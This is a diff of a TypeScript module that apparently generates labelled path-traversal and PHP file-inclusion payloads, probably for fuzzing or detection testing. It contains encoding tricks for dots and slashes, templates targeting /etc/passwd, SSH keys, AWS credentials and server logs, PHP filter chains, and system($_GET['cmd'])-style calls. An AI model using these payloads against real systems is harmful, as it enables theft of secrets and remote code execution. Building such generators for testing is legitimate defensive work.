@@ -76,14 +76,35 @@ function climbing(step: Part, separator: string, file: Part, steps: Part = integ
 /** Encodings of a dot and of a slash that some decoder folds back, by what is odd about them. */
 const DISGUISES = {
   percent: { dots: ['%2e'], slashes: ['%2f', '%5c'] },
-  'percent-twice': { dots: ['%252e', '%25%32%65', '%%32%65', '%%32%%65', '%32%65'], slashes: ['%252f', '%255c', '%25%35%63', '%%32%66', '%%35%63', '%%35c'] },
-  'sixteen-bits': { dots: ['%u002e', '%uff0e', '%u2024', '\\u002e', '\\x2e'], slashes: ['%u2215', '%u2216', '%uefc8', '%uf025', '%uff0f', '%u002f', '\\u002f', '\\x2f', '%u005c'] },
-  'overlong-two': { dots: ['%c0%ae', '%c0ae', '%25c0%25ae', '%c0%2e'], slashes: ['%c0%af', '%c1%9c', '%c0%2f', '%c0%5c', '%c1%af', '%25c0%25af', '%25c1%259c'] },
-  'overlong-more': { dots: ['%e0%80%ae', '%f0%80%80%ae', '%f8%80%80%80%ae', '%fc%80%80%80%80%ae', '%e0%40%ae'], slashes: ['%e0%80%af', '%f0%80%80%af', '%f8%80%80%80%af', '%fc%80%80%80%80%af', '%e0%40%af'] },
-  'overlong-wrong': { dots: ['%c0%5e', '%c0%ee', '%c0%fe', '%c0%6e', '%c0.'], slashes: ['%c0%9v', '%c0%qf', '%c1%8s', '%c1%1c', '%c1%pc', '%bg%qf', '%af', '%fe'] },
+  'percent-twice': {
+    dots: ['%252e', '%25%32%65', '%%32%65', '%%32%%65', '%32%65'],
+    slashes: ['%252f', '%255c', '%25%35%63', '%%32%66', '%%35%63', '%%35c']
+  },
+  'sixteen-bits': {
+    dots: ['%u002e', '%uff0e', '%u2024', '\\u002e', '\\x2e'],
+    slashes: ['%u2215', '%u2216', '%uefc8', '%uf025', '%uff0f', '%u002f', '\\u002f', '\\x2f', '%u005c']
+  },
+  'overlong-two': {
+    dots: ['%c0%ae', '%c0ae', '%25c0%25ae', '%c0%2e'],
+    slashes: ['%c0%af', '%c1%9c', '%c0%2f', '%c0%5c', '%c1%af', '%25c0%25af', '%25c1%259c']
+  },
+  'overlong-more': {
+    dots: ['%e0%80%ae', '%f0%80%80%ae', '%f8%80%80%80%ae', '%fc%80%80%80%80%ae', '%e0%40%ae'],
+    slashes: ['%e0%80%af', '%f0%80%80%af', '%f8%80%80%80%af', '%fc%80%80%80%80%af', '%e0%40%af']
+  },
+  'overlong-wrong': {
+    dots: ['%c0%5e', '%c0%ee', '%c0%fe', '%c0%6e', '%c0.'],
+    slashes: ['%c0%9v', '%c0%qf', '%c1%8s', '%c1%1c', '%c1%pc', '%bg%qf', '%af', '%fe']
+  },
   hexadecimal: { dots: ['0x2e'], slashes: ['0x2f', '0x5c'] },
-  replaced: { dots: ['\ufffd', '\ufffd\ufffd', '?', '\ufffd.'], slashes: ['\ufffd', '\ufffd\ufffd', '?', '\ufffd?', '\ufffds', '\ufffdv'] },
-  'look-alike': { dots: ['\uff0e', '\u2024', '\u3002', '&#46;'], slashes: ['\uff0f', '\u2215', '\u2216', '\uff3c', '&#47;'] },
+  replaced: {
+    dots: ['\ufffd', '\ufffd\ufffd', '?', '\ufffd.'],
+    slashes: ['\ufffd', '\ufffd\ufffd', '?', '\ufffd?', '\ufffds', '\ufffdv']
+  },
+  'look-alike': {
+    dots: ['\uff0e', '\u2024', '\u3002', '&#46;'],
+    slashes: ['\uff0f', '\u2215', '\u2216', '\uff3c', '&#47;']
+  },
   question: { dots: ['?', '??'], slashes: ['%c0%9v', '%c0%qf', '%c1%8s', '%c1%pc', '%c0%5c', '%c0%af', '%uefc8'] },
   'null-bytes': { dots: ['.%00', '%00.', '.\u0000'], slashes: ['/', '\\', '%00/', '%2f', '%c0%af'] }
 } as const;
@@ -171,7 +192,10 @@ export const absoluteTemplates = family('path-traversal/absolute', {
   'file-url': text`file:${words('/// // / ///// ////')}${oneOf(unixFile, text`c:/${windowsFile}`, text`localhost/${unixFile}`, text`c|/${windowsFile}`, text`${attackerHost}/${lowerWord}`)}`,
   'application-absolute': text`/${maybe(text`${lowerWord}/`)}${oneOf('WEB-INF/web.xml', 'META-INF/context.xml', 'WEB-INF/classes/db.properties', text`..;/WEB-INF/web.xml`, text`static/..%2f${applicationFile}`, text`.//WEB-INF/web.xml`, text`%57EB-INF/web.xml`)}${extension}`,
   'server-logs': text`/${oneOf('var/log/', 'var/adm/', 'usr/local/', 'opt/', 'etc/', 'var/www/', 'usr/', 'home/', 'var/lib/', 'var/', 'logs/')}${oneOf(text`${words('apache apache2 apache-ssl httpd nginx lighttpd mysql postgresql tomcat pure-ftpd proftpd vsftpd exim squid samba php lampp cpanel lp sendmail')}/${words('logs log conf etc errors data')}/${server}`, text`${words('apache apache2 apache-ssl httpd nginx mysql php exim pure-ftpd')}/${server}`, server)}${extension}`,
-  'server-folders': altered(text`${oneOf('c:/', 'd:/', '/')}${words('xampp wamp inetpub winnt windows apache php mysql program␣files')}/${words('logs conf bin data webdav temp apache/logs mysql/data system32 repair')}/${oneOf(server, words('webdav.txt access_log sam php.ini my.ini httpd.conf hosts system.ini'))}`, (path, rng) => (rng.chance(0.6) ? path.replaceAll('/', '\\') : path)),
+  'server-folders': altered(
+    text`${oneOf('c:/', 'd:/', '/')}${words('xampp wamp inetpub winnt windows apache php mysql program␣files')}/${words('logs conf bin data webdav temp apache/logs mysql/data system32 repair')}/${oneOf(server, words('webdav.txt access_log sam php.ini my.ini httpd.conf hosts system.ini'))}`,
+    (path, rng) => (rng.chance(0.6) ? path.replaceAll('/', '\\') : path)
+  ),
   'system-tools': text`/${words('usr/bin usr/sbin bin sbin usr/lib usr/lib/security usr/local/bin')}/${words('id passwd crontab mkuser.default sudo su ssh chsh mount iptables')}${extension}`,
   wildcards: text`/${words('e?c/p?sswd e*c/p*d ???/passwd etc/pass?? e[t]c/p[a]sswd etc/{passwd,shadow} etc//passwd etc/./passwd //etc//passwd etc/passwd?a=b etc/passwd/. private/etc/passwd etc/passwd&')}${maybe(text`${words('# ; & ? ')}${lowerWord}`)}`,
   'home-tilde': text`${oneOf('/', '//', '../')}~${mostly([words('root admin www-data'), 2], [inventedWord, 1])}/.${words('ssh/id_rsa bash_history aws/credentials netrc mysql_history')}${extension}`
@@ -189,7 +213,15 @@ const filter = oneOf(
   'write=convert.base64-decode',
   text`${repeat(text`convert.iconv.${words('UTF8 L1 CP1256 ISO2022KR UTF16 IBM869 CSIBM1161 SE2 8859_3 UCS2 L4')}.${words('UTF8 UTF7 CSISO2022KR UCS-2 UTF16LE MS936 UTF-32 SJIS ISO-IR-156 UTF-16BE')}`, 2, 12, '|')}|convert.base64-decode`
 );
-const dataType = oneOf('//text/plain', 'text/plain', '//text/html', 'text/html', '', 'application/x-httpd-php', '//text/plain;charset=utf-8');
+const dataType = oneOf(
+  '//text/plain',
+  'text/plain',
+  '//text/html',
+  'text/html',
+  '',
+  'application/x-httpd-php',
+  '//text/plain;charset=utf-8'
+);
 const phpCall = text`${words('system eval passthru exec phpinfo shell_exec assert print')}(${oneOf('', "'id'", '$_GET[0]', "$_REQUEST['c']", "$_GET['cmd']", "'ls -la'")});`;
 export const wrapperTemplates = family('path-traversal/wrapper', {
   'php-filter': text`${words('php PHP pHp Php')}://filter/${filter}/resource=${wrapped}${extension}`,
